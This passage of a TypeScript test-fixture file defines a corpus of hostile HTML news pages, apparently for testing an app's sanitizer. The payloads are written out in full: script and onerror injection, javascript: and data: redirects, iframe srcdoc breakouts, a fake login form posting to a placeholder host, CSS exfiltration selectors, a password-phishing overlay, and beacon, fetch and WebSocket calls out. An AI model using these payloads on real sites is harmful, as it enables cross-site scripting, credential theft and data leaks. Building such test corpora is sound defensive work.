      top: `<![CDATA[><img src=x onerror="${sentinel('cdata-tricks')}">]]><svg><![CDATA[><img src=x onerror="${sentinel('cdata-tricks')}">]]></svg>`,
      middle: `<math><![CDATA[</math><img src=x onerror="${sentinel('cdata-tricks')}">]]></math><svg><style><![CDATA[</style><img src=x onerror="${sentinel('cdata-tricks')}">]]></style></svg>`,
    },
  },

  // Meta refresh and base.
  {
    name: 'meta-refresh',
    family: 'meta-base',
    description: 'meta refresh to javascript: and data: in head, then to an off-machine page in body (the last one wins)',
    story: 'river',
    headline: 'Kelby residents allowed home as river falls',
    lead: 'Most residents of Kelby were allowed back into their homes on Friday as the river fell, though some streets remained closed for checks.',
    payload: {
      head: `<meta http-equiv="Refresh" content="1; URL='javascript:${sentinel('meta-refresh')}'"><meta http-equiv="refresh" content="0; url=data:text/html;base64,${base64(`<script>${sentinel('meta-refresh')}</script>`)}">`,
      bottom: `<meta http-equiv="refresh" content="0;url=${remote('meta-refresh', 'refresh')}">`,
    },
  },
  {
    name: 'base-href',
    family: 'meta-base',
    description: 'base href off the machine and to javascript:, base target, and relative links, images and scripts under it',
    story: 'hospital',
    headline: 'Union and hospital to return to talks next week',
    lead: 'Union leaders and hospital managers agreed to meet again on Tuesday, with a mediator, after the strike ended on Wednesday morning.',
    touch: 'the union’s own rota figures',
    payload: {
      head: `<base href="${remote('base-href', '')}"><base href="javascript:/a/-${sentinel('base-href')}///////" target="_blank">`,
      top: `<p>Reporters were shown <a href="rota.html">the union’s own rota figures</a> <img src="pixel.gif"> before the meeting.</p><script src="relative.js"></script><link rel="stylesheet" href="relative.css">`,
    },
  },
  {
    name: 'meta-http-equiv',
    family: 'meta-base',
    description: 'meta set-cookie, referrer unsafe-url, DNS prefetch control, a Link header and a weaker CSP in the page',
    story: 'election',
    headline: 'Ballot boxes unsealed under camera as recount begins',
    lead: 'Each ballot box was unsealed in front of two cameras and observers from both campaigns before the clerks began counting.',
    payload: {
      head: `<meta http-equiv="set-cookie" content="pwned=meta-http-equiv; path=/"><meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<${remote('meta-http-equiv', 'preload.css')}>; rel=preload; as=style"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
      middle: `<script>${sentinel('meta-http-equiv')}</script>`,
    },
  },

  // Frames, embeds and plugins.
  {
    name: 'iframe-srcdoc',
    family: 'frame-embed',
    description: 'iframes with srcdoc holding scripts and handlers, sandboxed and not, escaped and double-escaped',
    story: 'schools',
    headline: 'Millbrook residents welcome new campus, with conditions',
    lead: 'Residents near the planned Millbrook campus said they welcomed the school but asked for a crossing and a lower speed limit on the main road.',
    payload: {
      top: `<iframe srcdoc="<script>${sentinel('iframe-srcdoc', 'parent')}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=&quot;${sentinel('iframe-srcdoc', 'parent')}&quot;&gt;"></iframe>`,
      middle: `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location='${remote('iframe-srcdoc', 'top')}'</script>"></iframe><iframe srcdoc="<meta http-equiv=refresh content='0;url=${remote('iframe-srcdoc', 'inner')}'>"></iframe>`,
    },
  },
  {
    name: 'remote-frames',
    family: 'frame-embed',
    description: 'iframes, frames, a frameset, portal and fencedframe pointing off the machine, lazily or not',
    story: 'river',
    headline: 'Water authority to review every levee in the valley',
    lead: 'Every levee along the Ashwater and its tributaries will be inspected before next winter, the regional water authority announced.',
    payload: {
      top: `<iframe src="${remote('remote-frames', 'frame.html')}" onload="${sentinel('remote-frames')}"></iframe><iframe loading="lazy" src="https://example.invalid/remote-frames/lazy.html"></iframe><frame src="${remote('remote-frames', 'frame2.html')}">`,
      middle: `<frameset onload="${sentinel('remote-frames')}"><frame src="${remote('remote-frames', 'frameset.html')}"></frameset><portal src="${remote('remote-frames', 'portal.html')}"></portal><fencedframe src="${remote('remote-frames', 'fenced.html')}"></fencedframe>`,
    },
  },
  {
    name: 'plugins',
    family: 'frame-embed',
    description: 'object, embed, applet and param pointing at remote Flash, Java and HTML',
    story: 'drought',
    headline: 'Dunmore reservoir at lowest level in thirty years',
    lead: 'Satellite images show the Dunmore reservoir has shrunk to a third of its usual size, exposing the old village church it flooded in 1962.',
    payload: {
      top: `<object data="${remote('plugins', 'movie.swf')}" type="application/x-shockwave-flash"><param name="movie" value="${remote('plugins', 'param.swf')}"><param name="allowScriptAccess" value="always"></object><embed src="${remote('plugins', 'embed.swf')}" type="application/x-shockwave-flash">`,
      middle: `<applet code="Pwned.class" codebase="${remote('plugins', '')}"></applet><object type="text/html" data="${remote('plugins', 'page.html')}"></object><embed type="text/html" src="${remote('plugins', 'embed.html')}">`,
    },
  },

  // Forms.
  {
    name: 'phishing-form',
    family: 'form',
    description: 'a fake login form posting off the machine, with a password field, an image submit and autocomplete bait',
    story: 'harbour',
    headline: 'Harbour budget: what it means for ferry fares',
    lead: 'Ferry fares will rise by ten cents next year under the new harbour budget, the first increase since the terminal was rebuilt in 2016.',
    payload: {
      middle: `<form action="${remote('phishing-form', 'login')}" method="post"><label>Email <input name="email" autocomplete="email"></label><label>Password <input type="password" name="password" autocomplete="current-password"></label><input type="image" src="${remote('phishing-form', 'submit.png')}"><button>Sign in to keep reading</button></form>`,
    },
  },
  {
    name: 'self-submitting-form',
    family: 'form',
    description: 'forms that submit themselves from autofocus handlers, a button posting to a form elsewhere, target=_blank',
    story: 'schools',
    headline: 'Board chair defends school closure vote',
    lead: 'The chair of the education board, Daniel Mensah, said he understood parents’ anger but that the numbers left the board no choice.',
    payload: {
      top: `<form id="auto" action="${remote('self-submitting-form', 'auto')}" target="_blank"><input name="q" value="leak" autofocus onfocus="this.form.submit()"></form>`,
      middle: `<button form="auto" formaction="${remote('self-submitting-form', 'button')}" formmethod="post" autofocus onfocus="this.click()">Vote</button><isindex action="javascript:${sentinel('self-submitting-form')}" type="image"><dialog open><form method="dialog"><input autofocus onfocus="${sentinel('self-submitting-form')}"></form></dialog>`,
    },
  },

  // CSS.
  {
    name: 'css-import',
    family: 'css',
    description: 'style sheets with @import of off-machine sheets, in head, in body and inside SVG',
    story: 'hospital',
    headline: 'Strike ends after forty-eight hours',
    lead: "The nurses' strike ended on Wednesday morning as planned, with the union warning that a longer walkout could follow next month.",
    payload: {
      head: `<style>@import url(${remote('css-import', 'a.css')}); @import '//example.invalid/css-import/b.css'; @import url("https://example.invalid/css-import/c.css") screen;</style>`,
      middle: `<style>@import "${remote('css-import', 'body.css')}";</style><svg><style>@import url(${remote('css-import', 'svg.css')});</style></svg>`,
    },
  },
  {
    name: 'css-url-backgrounds',
    family: 'css',
    description: 'url() in background, list-style-image, cursor, border-image, content, mask and image-set, inline and in sheets',
    story: 'election',
    headline: 'Recount costs city forty thousand dollars',
    lead: 'The recount will cost the city about forty thousand dollars in staff overtime and security, according to the clerk’s office.',
    payload: {
      head: `<style>body { background: url(${remote('css-url-backgrounds', 'body.png')}) } li { list-style-image: url("//example.invalid/css-url-backgrounds/li.png") } p::after { content: url(${remote('css-url-backgrounds', 'after.png')}) } article { mask-image: url(${remote('css-url-backgrounds', 'mask.svg')}); background-image: image-set(url(${remote('css-url-backgrounds', 'set.png')}) 1x) }</style>`,
      top: `<div style="background:url(${remote('css-url-backgrounds', 'inline.png')})">.</div><p style="cursor:url(${remote('css-url-backgrounds', 'cursor.cur')}),auto;border-image:url(${remote('css-url-backgrounds', 'border.png')}) 30">The clerk’s office published its estimate on Friday.</p><ul><li>Ward totals</li></ul>`,
    },
  },
  {
    name: 'css-expression-behavior',
    family: 'css',
    description: 'legacy CSS code execution: expression(), behavior and -moz-binding, and escaped url(javascript:)',
    story: 'drought',
    headline: 'Leaflets on saving water to go to every home',
    lead: 'Every home in the district will get a leaflet explaining how to save water, from shorter showers to buckets for the garden, the board said.',
    payload: {
      top: `<p style="width:expression(${sentinel('css-expression-behavior')})">The leaflet was written with the help of local schools.</p><div style="behavior:url(${remote('css-expression-behavior', 'x.htc')});-moz-binding:url(${remote('css-expression-behavior', 'x.xml')}#x)">.</div>`,
      middle: `<style>p { background: url(javascript:${sentinel('css-expression-behavior')}); } div { background: u\\72 l(${remote('css-expression-behavior', 'escaped.png')}); } a { width: e\\xpression(${sentinel('css-expression-behavior')}) }</style>`,
    },
  },
  {
    name: 'linked-stylesheets',
    family: 'css',
    description: 'link rel=stylesheet off the machine and as data:, alternate sheets, and an xml-stylesheet processing instruction',
    story: 'river',
    headline: 'Insurers send assessors to flooded streets',
    lead: 'Insurance assessors arrived in Kelby on Saturday to inspect homes along the river, and told residents to photograph every damaged room.',
    payload: {
      head: `<?xml-stylesheet href="${remote('linked-stylesheets', 'pi.xsl')}" type="text/xsl"?><link rel="stylesheet" href="${remote('linked-stylesheets', 'main.css')}"><link rel="alternate stylesheet" title="x" href="https://example.invalid/linked-stylesheets/alt.css"><link rel="stylesheet" href="data:text/css,body%7Bbackground:url(${encodeURIComponent(remote('linked-stylesheets', 'data.png'))})%7D">`,
      bottom: `<link rel="stylesheet" href="${remote('linked-stylesheets', 'body.css')}">`,
    },
  },
  {
    name: 'font-face',
    family: 'css',
    description: '@font-face from off the machine, and unicode-range fonts that leak which characters the page shows',
    story: 'schools',
    headline: 'Petition to save village schools reaches two thousand names',
    lead: 'A petition asking the board to reconsider the closures has gathered more than two thousand signatures, its organisers said.',
    payload: {
      head: `<style>@font-face { font-family: leak; src: url(${remote('font-face', 'a.woff')}); unicode-range: U+0041 } @font-face { font-family: leak; src: url(//example.invalid/font-face/b.woff2) format("woff2"); unicode-range: U+0042 } body, p { font-family: leak, serif }</style>`,
    },
  },
  {
    name: 'css-exfiltration-overlay',
    family: 'css',
    description: 'attribute selectors that leak input values, :visited probes, and a fixed overlay faking the app’s own dialog',
    story: 'hospital',
    headline: 'Patients describe long waits on understaffed wards',
    lead: 'Patients and their families told the Herald of call bells ringing for half an hour on night shifts, and of nurses running between two wards.',
    payload: {
      head: `<style>input[value^="a"] { background: url(${remote('css-exfiltration-overlay', 'a')}) } a:visited { background: url(${remote('css-exfiltration-overlay', 'visited')}) } .overlay { position: fixed; inset: 0; z-index: 99999; background: white } p { display: none }</style>`,
      top: `<div class="overlay"><h2>Your session expired</h2><p>Enter your password to keep working.</p></div><input value="abc" aria-label="Password">`,
    },
  },

  // Tracking pixels and prefetches.
  {
    name: 'tracking-pixels',
    family: 'tracking',
    description: 'one-pixel images over http, https and protocol-relative URLs, lazy and eager, with srcset and referrer policy',
    story: 'harbour',
    headline: 'Dredging contract to go out to tender',
    lead: 'The contract to dredge the eastern channel will go out to tender next month, with work expected to take about six weeks.',
    payload: {
      top: `<img src="${remote('tracking-pixels', 'p.gif')}" width="1" height="1" alt=""><img src="//example.invalid/tracking-pixels/p.gif" loading="lazy"><img src="https://example.invalid/tracking-pixels/eager.gif" referrerpolicy="unsafe-url">`,
      middle: `<img srcset="${remote('tracking-pixels', '1x.gif')} 1x, ${remote('tracking-pixels', '2x.gif')} 2x"><img sizes="100vw" srcset="${remote('tracking-pixels', 'w.gif')} 800w" src="${remote('tracking-pixels', 'fallback.gif')}">`,
    },
  },
  {
    name: 'picture-and-media',
    family: 'tracking',
    description: 'picture/source srcset, video poster and sources, audio autoplay, track and a background attribute',
    story: 'river',
    headline: 'Volunteers fill sandbags through the night',
    lead: 'More than two hundred volunteers filled sandbags at the council depot through the night, working in shifts under floodlights.',
    payload: {
      body: ` background="${remote('picture-and-media', 'body-bg.png')}"`,
      top: `<picture><source srcset="${remote('picture-and-media', 'photo.webp')}" type="image/webp"><source media="(min-width: 1px)" srcset="${remote('picture-and-media', 'wide.jpg')}"><img src="${remote('picture-and-media', 'photo.jpg')}" alt="Volunteers at the depot"></picture>`,
      middle: `<video poster="${remote('picture-and-media', 'poster.jpg')}" src="${remote('picture-and-media', 'clip.mp4')}" autoplay muted><source src="${remote('picture-and-media', 'clip.webm')}"><track kind="captions" src="${remote('picture-and-media', 'captions.vtt')}" default></video><audio src="${remote('picture-and-media', 'sound.mp3')}" autoplay></audio><table background="${remote('picture-and-media', 'table.png')}"><tr><td>Sandbags filled: 12,000</td></tr></table>`,
    },
  },
  {
    name: 'link-prefetch',
    family: 'tracking',
    description: 'link rel=preload, prefetch, prerender, dns-prefetch, preconnect, modulepreload, icon, manifest and import',
    story: 'election',
    headline: 'Both campaigns hire lawyers ahead of recount result',
    lead: 'Both mayoral campaigns have hired election lawyers, who spent the first day of the recount watching the tables and taking notes.',
    payload: {
      head: `<link rel="preload" href="${remote('link-prefetch', 'preload.png')}" as="image"><link rel="prefetch" href="${remote('link-prefetch', 'prefetch')}"><link rel="prerender" href="${remote('link-prefetch', 'prerender')}"><link rel="dns-prefetch" href="//link-prefetch.example.invalid"><link rel="preconnect" href="https://example.invalid"><link rel="modulepreload" href="${remote('link-prefetch', 'module.js')}"><link rel="icon" href="${remote('link-prefetch', 'favicon.ico')}"><link rel="manifest" href="${remote('link-prefetch', 'manifest.json')}"><link rel="import" href="${remote('link-prefetch', 'import.html')}">`,
    },
  },
  {
    name: 'link-ping-beacons',
    family: 'tracking',
    description: 'links with ping attributes, download and target=_blank, plus sendBeacon, fetch, WebSocket and EventSource',
    story: 'drought',
    headline: 'Golf courses told to let fairways go brown',
    lead: 'The district’s three golf courses must stop watering their fairways, though greens may be watered by hand twice a week.',
    touch: 'the board’s full order',
    payload: {
      top: `<p>Read <a href="${remote('link-ping-beacons', 'order')}" ping="${remote('link-ping-beacons', 'ping')}" target="_blank">the board’s full order</a> or <a href="${remote('link-ping-beacons', 'file.pdf')}" download ping="https://example.invalid/link-ping-beacons/ping">download it</a>.</p>`,
      bottom: `<script>navigator.sendBeacon('${remote('link-ping-beacons', 'beacon')}');fetch('${remote('link-ping-beacons', 'fetch')}');new WebSocket('ws://203.0.113.66/link-ping-beacons');new EventSource('${remote('link-ping-beacons', 'events')}');${sentinel('link-ping-beacons')}</script>`,
    },
  },

  // Text that looks like markup.
  {
    name: 'escaped-script-text',
    family: 'escaped-text',
    description: 'an escaped <script> the article quotes as text: it must be shown as the characters it is',
    story: 'harbour',
    headline: 'Council feedback form flooded with joke submissions',
    lead: 'The council’s online feedback form on the harbour budget received hundreds of joke submissions, some of them attempts at computer code.',
    literals: [`One resident typed <script>window.__pwned='escaped-script-text'</script> into the comment box.`],
    payload: {
      top: `<p>One resident typed &lt;script&gt;window.__pwned='escaped-script-text'&lt;/script&gt; into the comment box.</p>`,
    },
  },
  {
    name: 'double-escaped-markup',
    family: 'escaped-text',
    description: 'double-escaped markup (&amp;lt;img…&amp;gt;): shown with its entities once decoded, never as an element',
    story: 'schools',
    headline: 'School website defaced hours after closure vote',
    lead: 'The website of one of the closing schools was defaced hours after the vote, the board said, and has been taken offline while it is repaired.',
    literals: [`The defaced page showed &lt;img src=x onerror=alert('double-escaped-markup')&gt; in large letters.`],
    payload: {
      top: `<p>The defaced page showed &amp;lt;img src=x onerror=alert('double-escaped-markup')&amp;gt; in large letters.</p>`,
    },
  },
  {
    name: 'code-sample',
    family: 'escaped-text',
    description: 'a technology story quoting attack code in <pre><code> and numeric references: shown as text',
    story: 'election',
    headline: 'Security experts check Eastport’s vote-counting software',
    lead: 'Independent experts examined the software Eastport used to total the first count and found no sign of tampering, the city said.',
    literals: [`<iframe src="javascript:parent.__pwned='code-sample'"></iframe>`, `<svg onload=alert('code-sample')>`],
    payload: {
      top: `<p>The experts said a typical attack looks like this:</p><pre><code>&lt;iframe src="javascript:parent.__pwned='code-sample'"&gt;&lt;/iframe&gt;</code></pre><p>and numeric references such as &#60;svg onload=alert('code-sample')&#62; are another.</p>`,
    },
  },

  // Encodings.
  {
    name: 'utf7-charset',
    family: 'encoding',
    description: 'a page declaring UTF-7 with +ADw-script+AD4- payloads (old IE sniffing trick)',
    story: 'drought',
    headline: 'Water use falls by a fifth in first week of ban',
    lead: 'Water use across the district fell by a fifth in the first week of the sprinkler ban, figures from the water board show.',
    payload: {
      charset: 'UTF-7',
      top: `+ADw-script+AD4-window.+AF8AXw-pwned+AD0AJw-utf7-charset+ACc-+ADw-/script+AD4-`,
      middle: `<p>+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-</p>`,
    },
  },
  {
    name: 'control-characters',
    family: 'encoding',
    description: 'a NUL (one: more makes the file binary) and control characters in tag names, attributes and javascript: URLs; a BOM mid-page',
    story: 'hospital',
    headline: 'Strike vote was backed by nine in ten nurses',
    lead: 'Nine in ten nurses who voted in the union ballot backed the strike, on a turnout the union called the highest it had ever seen.',
    literals: [`void(window.__pwned='control-characters')`],
    payload: {
      top: `<scr\u0000ipt>${sentinel('control-characters')}</scr\u0001ipt><img src=x onerror\u0001="${sentinel('control-characters')}"><a href="java\u0002script:${sentinel('control-characters')}">.</a>`,
      middle: `<img\u000csrc=x\u000conerror="${sentinel('control-characters')}"><a href="\u0001javascript:${sentinel('control-characters')}">.</a>\ufeff<img src=x onerror="${sentinel('control-characters')}">`,
    },
  },
  {
    name: 'unicode-tricks',
    family: 'encoding',
    description: 'zero-width and right-to-left override characters inside javascript: and around payloads; fullwidth brackets',
    story: 'election',
    headline: 'Recount finds eleven ballots set aside by mistake',
    lead: 'Clerks found eleven ballots that had been set aside by mistake on election night, and both campaigns agreed they should be counted.',
    touch: 'the clerk’s report',
    literals: [`\uff1cscript\uff1evoid(window.__pwned='unicode-tricks')\uff1c/script\uff1e`],
    payload: {
      top: `<p>The details are in <a href="java\u200bscript:${sentinel('unicode-tricks')}">the clerk’s report</a> and <a href="\u202ejavascript:${sentinel('unicode-tricks')}">\u202ethe appendix</a>.</p><p>A sign at the door read \uff1cscript\uff1e${sentinel('unicode-tricks')}\uff1c/script\uff1e, which was a joke.</p>`,
      middle: `<img src=x onerror="\\u0077\\u0069ndow.__pwned='unicode-tricks'">`,
    },
  },

  // Metadata fields shown by the app.
  {
    name: 'hostile-metadata',
    family: 'metadata',
    description: 'markup and javascript: in the title, og:title, author, og:site_name, canonical link and JSON-LD fields',
    story: 'river',
    headline: 'Flood defences bill to reach parliament next month',
    lead: 'A bill to pay for new flood defences along the Ashwater will reach parliament next month, the local member said on a visit to Kelby.',
    payload: {
      title: `&lt;img src=x onerror=${sentinel('hostile-metadata')}&gt; Flood defences bill | Northern Ledger`,
      head: `<meta name="author" content="<script>${sentinel('hostile-metadata')}</script> Tom Ashdown"><meta property="og:site_name" content="<img src=x onerror=${sentinel('hostile-metadata')}>"><link rel="canonical" href="javascript:${sentinel('hostile-metadata')}"><meta property="og:url" content="data:text/html,<script>${sentinel('hostile-metadata')}</script>"><script type="application/ld+json">{"@type":"NewsArticle","headline":"<svg onload=${sentinel('hostile-metadata')}>","url":"javascript:${sentinel('hostile-metadata')}","author":{"name":"<iframe src=javascript:${sentinel('hostile-metadata')}>"},"publisher":{"name":"<b onmouseover=${sentinel('hostile-metadata')}>Ledger</b>"}}</script>`,
    },
  },
  {
    name: 'hostile-og-title',
    family: 'metadata',
    description: 'an og:title full of markup and a title with a closing </title> inside an attribute',
    story: 'hospital',
    headline: 'Hospital board to publish staffing figures every month',
    lead: 'The hospital board agreed to publish ward-by-ward staffing figures every month, one of the union’s main demands during the strike.',
    payload: {
      title: `<a title="</title><script>${sentinel('hostile-og-title')}</script>">Staffing figures</a>`,
      head: `<meta property="og:title" content="<img src=x onerror=alert('hostile-og-title')> Hospital board to publish staffing figures"><meta name="twitter:title" content="<script>${sentinel('hostile-og-title')}</script>">`,
    },
  },

  // DOM clobbering: named elements that would shadow the sentinel or the app's globals.
  {
    name: 'dom-clobbering',
    family: 'dom-clobbering',
    description: 'elements named and id-ed __pwned, document, getElementById and location, which would clobber globals',
    story: 'schools',
    headline: 'Board publishes enrolment figures behind closure decision',
    lead: 'Enrolment at the three schools has fallen by almost half in ten years, according to figures the board published after the vote.',
    payload: {
      top: `<img name="__pwned" src="data:,"><form id="__pwned"><input name="__pwned"></form><a id="__pwned" name="__pwned" href="${remote('dom-clobbering')}">.</a>`,
      middle: `<form name="getElementById"></form><img name="body"><img name="cookie"><a id="location" href="${remote('dom-clobbering', 'location')}">.</a><embed name="parallax"><iframe name="parallax" src="${remote('dom-clobbering', 'frame')}"></iframe>`,
    },
  },

  // Size and structure.
  {
    name: 'huge-attribute',
    family: 'size-structure',
    description: 'a one-megabyte attribute on an element with handlers, and a thousand handlers on one element',
    story: 'harbour',
    headline: 'Harbour budget debate was longest in council history',
    lead: 'The debate on the harbour budget lasted seven hours, the longest in the council’s recorded history, according to the clerk’s minutes.',
    payload: {
      top: `<p title="${'A'.repeat(1_000_000)}" onmouseover="${sentinel('huge-attribute')}">The minutes run to ninety pages.</p>`,
      middle: `<div ${Array.from({ length: 1000 }, (_, index) => `data-x${index}="1"`).join(' ')} onmouseover="${sentinel('huge-attribute')}">.</div>`,
    },
  },
  {
    name: 'deep-nesting',
    family: 'size-structure',
    description: 'ten thousand nested elements with an image handler at the bottom, to stall parsers and sanitizers',
    story: 'drought',
    headline: 'Dunmore church tower reappears as waters recede',
    lead: 'The tower of the church flooded when the Dunmore reservoir was built in 1962 has reappeared above the water, drawing crowds to the shore.',
    payload: {
      bottom: `${'<div>'.repeat(10_000)}<img src=x onerror="${sentinel('deep-nesting')}">${'</div>'.repeat(10_000)}`,
    },
  },
  {
    name: 'unclosed-and-malformed',
    family: 'size-structure',
    description: 'unclosed attributes and tags, attributes without spaces, duplicate attributes, a stray </p> before a handler',
    story: 'election',
    headline: 'Recount result expected on Monday',
    lead: 'The clerk said the result of the recount should be announced on Monday afternoon, once the last ward has been checked twice.',
    payload: {
      top: `<img src="x"onerror="${sentinel('unclosed-and-malformed')}"><img src=x onerror="${sentinel('unclosed-and-malformed')}" onerror="${sentinel('unclosed-and-malformed')}"></p>`,
      middle: `<div title='x' onmouseover=${sentinel('unclosed-and-malformed')} >.</div><a href="${remote('unclosed-and-malformed')}" title="unclosed>text</a><img src=x onerror="${sentinel('unclosed-and-malformed')}">`,
      bottom: `<img src=x onerror=${sentinel('unclosed-and-malformed')}//`,
    },
  },
];

/** More scripts, handlers, URLs, frames, styles and pixels, smaller, so every common shape has its own article. */
const SMALL_DEFINITIONS: Definition[] = [
  {
    name: 'iframe-remote-sandbox',
    family: 'frame-embed',
    description: 'sandboxed and credentialless iframes off the machine, and an iframe in a link',
    story: 'schools',
    headline: 'Board to sell closed school buildings',
    lead: 'The three school buildings will be sold once they close, and the board says the money will go towards the new campus.',
    payload: {
      top: `<iframe sandbox src="${remote('iframe-remote-sandbox', 'sandboxed.html')}"></iframe><iframe credentialless src="https://example.invalid/iframe-remote-sandbox/c.html"></iframe><a href="#"><iframe src="${remote('iframe-remote-sandbox', 'in-link.html')}"></iframe></a>`,
    },
  },
  {
    name: 'form-in-svg-and-table',
    family: 'form',
    description: 'forms hidden in SVG foreignObject and table cells, with handlers on submit and change',
    story: 'drought',
    headline: 'Hosepipe users reported by neighbours',
    lead: 'The water board received more than a hundred reports of hosepipe use from neighbours in the first three days of the ban.',
    payload: {
      top: `<svg><foreignObject><form action="${remote('form-in-svg-and-table', 'svg')}" onsubmit="${sentinel('form-in-svg-and-table')}"><input autofocus onfocus="this.form.requestSubmit()"></form></foreignObject></svg>`,
      middle: `<table><tr><td><form action="${remote('form-in-svg-and-table', 'table')}"><select onchange="${sentinel('form-in-svg-and-table')}" autofocus><option>1</option><option selected>2</option></select></form></td></tr></table>`,
    },
  },
  {
    name: 'new-windows',
    family: 'url-scheme',
    description: 'target=_blank links and forms, window.open and an area opening off-machine pages in new windows',
    story: 'hospital',
    headline: 'Ambulance crews back nurses on picket line',
    lead: 'Ambulance crews sounded their horns as they passed the picket line, and some stopped to bring the nurses hot drinks.',
    touch: 'photos of the picket line',
    payload: {
      top: `<p>See <a href="${remote('new-windows', 'photos')}" target="_blank" rel="opener">photos of the picket line</a>.</p><script>window.open('${remote('new-windows', 'open')}');${sentinel('new-windows')}</script>`,
      middle: `<form action="${remote('new-windows', 'form')}" target="_blank"><input type="submit" value="More" autofocus onfocus="this.click()"></form>`,
    },
  },
  {
    name: 'style-attribute-handlers',
    family: 'css',
    description: 'a style attribute closing itself to add handlers, and a <style> that closes early to open a script',
    story: 'river',
    headline: 'Kelby businesses count flood losses',
    lead: 'Shops and cafés on Kelby’s river street say the evacuation cost them a week of trade, on top of the damage to stock and fittings.',
    payload: {
      top: `<p style="color:red" onmouseover="${sentinel('style-attribute-handlers')}" style="x:expression(${sentinel('style-attribute-handlers')})">Owners met the council on Monday.</p><div style="x:\\65 xpression(${sentinel('style-attribute-handlers')})">.</div>`,
      middle: `<style></style><script>${sentinel('style-attribute-handlers')}</script><style>p{}</style ><img src=x onerror="${sentinel('style-attribute-handlers')}">`,
    },
  },
  {
    name: 'svg-animate-href',
    family: 'svg-mathml',
    description: 'SVG animations that rewrite an href to javascript: or add an onclick after load',
    story: 'election',
    headline: 'Turnout in mayoral race highest in two decades',
    lead: 'Turnout in the mayoral election was the highest in twenty years, the clerk’s office said, with queues at some polling stations after dark.',
    payload: {
      top: `<svg><a><animate attributeName="href" values="javascript:${sentinel('svg-animate-href')}" begin="0s"/><text x="20" y="20">turnout</text></a><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${sentinel('svg-animate-href')}"/><circle r="40"/></a></svg>`,
    },
  },
  {
    name: 'object-embed-svg',
    family: 'frame-embed',
    description: 'object and embed loading SVG documents that carry scripts, from data: and off the machine',
    story: 'harbour',
    headline: 'Harbour pilots say channel is dangerous at low tide',
    lead: 'Harbour pilots told the council the eastern channel is now dangerous for deep ships at low tide, and that a grounding is only a matter of time.',
    payload: {
      top: `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${sentinel('object-embed-svg', 'parent')}</script></svg>`)}"></object><embed type="image/svg+xml" src="${remote('object-embed-svg', 'remote.svg')}">`,
    },
  },
  {
    name: 'srcdoc-nested',
    family: 'frame-embed',
    description: 'an iframe srcdoc nesting another srcdoc that reaches the top window and navigates it',
    story: 'drought',
    headline: 'Board considers pipeline from the Ashwater',
    lead: 'The water board will study a pipeline from the Ashwater river to the Dunmore reservoir, though it would take years to build.',
    payload: {
      top: `<iframe srcdoc="<iframe srcdoc='&lt;script&gt;${sentinel('srcdoc-nested', 'top')};top.location=&quot;${remote('srcdoc-nested', 'top')}&quot;&lt;/script&gt;'></iframe>"></iframe>`,
    },
  },
  {
    name: 'event-handler-inventory',
    family: 'event-handler',
    description: 'a paragraph with over thirty handlers at once: keyboard, clipboard, drag, wheel, context menu, pointer, touch',
    story: 'harbour',
    headline: 'Dredging spoil to build up eroded beach',
    lead: 'Sand dredged from the eastern channel will be used to rebuild the eroded beach north of the harbour, the council said.',
    touch: 'north of the harbour wall',
    payload: {
      top: `<p>The beach ${'<span ' + ['onkeydown', 'onkeyup', 'onkeypress', 'oncut', 'oncopy', 'onpaste', 'ondrag', 'ondragstart', 'ondrop', 'onwheel', 'oncontextmenu', 'onpointerdown', 'onpointerup', 'onpointermove', 'onpointerenter', 'onpointerleave', 'ontouchstart', 'ontouchend', 'onmousedown', 'onmouseup', 'onmouseout', 'onmouseleave', 'ondblclick', 'onclick', 'onfocus', 'onblur', 'oninput', 'onchange', 'onselect', 'onscroll', 'onload', 'onerror', 'onsearch', 'oninvalid', 'onbeforeinput'].map((handler) => `${handler}="${sentinel('event-handler-inventory')}"`).join(' ') + ' tabindex="0">north of the harbour wall</span>'} has lost a metre of sand a year.</p>`,
    },
  },
];

/** The corpus: every hostile article, in a fixed order. */
export const HOSTILE_ARTICLES: readonly HostileArticle[] = [...DEFINITIONS, ...SMALL_DEFINITIONS].map((definition) => ({
  name: definition.name,
  family: definition.family,
  description: definition.description,
  headline: definition.headline,
  lead: definition.lead,
  paragraphs: STORIES[definition.story].paragraphs,
  ...(definition.literals === undefined ? {} : { literals: definition.literals }),
  ...(definition.touch === undefined ? {} : { touch: definition.touch }),
  html: newsPage(definition),
}));

/** The file name an article is saved under. */
export function articleFileName(article: HostileArticle): string {
  return `${article.name}.html`;
}

/** How many articles each family has, for reports. */
export function countByFamily(articles: readonly HostileArticle[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const article of articles) counts[article.family] = (counts[article.family] ?? 0) + 1;
  return counts;
}
